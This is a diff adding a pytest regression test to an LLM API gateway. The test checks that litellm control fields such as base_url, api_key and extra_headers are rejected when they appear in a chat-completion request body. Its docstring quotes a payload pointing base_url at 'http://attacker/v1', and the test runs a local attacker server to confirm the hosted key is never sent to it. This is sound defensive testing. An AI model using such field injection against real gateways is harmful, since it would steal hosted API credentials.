@@ -153,3 +153,26 @@ async def test_a_non_ascii_key_is_401_not_a_500(llama: LlamaServer, make_gateway
     assert status == 401 and body["error"]["type"] == "authentication_error"
     status, body = await send_raw(gw, user("x", max_tokens=2), b"Authorization: Bearer \xff\xfe")
     assert status == 401
+
+
+@pytest.mark.parametrize("field", ["base_url", "api_base", "api_key", "mock_response", "input_cost_per_token",
+                                   "litellm_logging_obj", "extra_headers", "custom_llm_provider"])
+async def test_litellm_control_fields_are_refused_and_the_hosted_key_stays_home(
+        make_gateway: GatewayFactory, fake: FakeHosted, aiohttp_server: Any, field: str) -> None:
+    """Before, `"base_url": "http://attacker/v1"` in a body made litellm send our hosted key there."""
+    from aiohttp import web
+
+    seen: list[str | None] = []
+
+    async def attacker(request: web.Request) -> web.Response:
+        seen.append(request.headers.get("Authorization"))
+        return web.json_response({"error": {"message": "x"}}, status=500)
+
+    app = web.Application()
+    app.router.add_route("*", "/{tail:.*}", attacker)
+    evil = str((await aiohttp_server(app)).make_url("/v1"))
+    gw = await make_gateway("http://127.0.0.1:9")
+    resp = await gw.client.post("/v1/chat/completions", data=user("hi", model="hosted", max_tokens=2, **{field: evil}))
+    await expect_400(resp, f"{field}: not a chat completion parameter")
+    assert seen == [] and fake.requests == []
+    breakers_closed(gw)
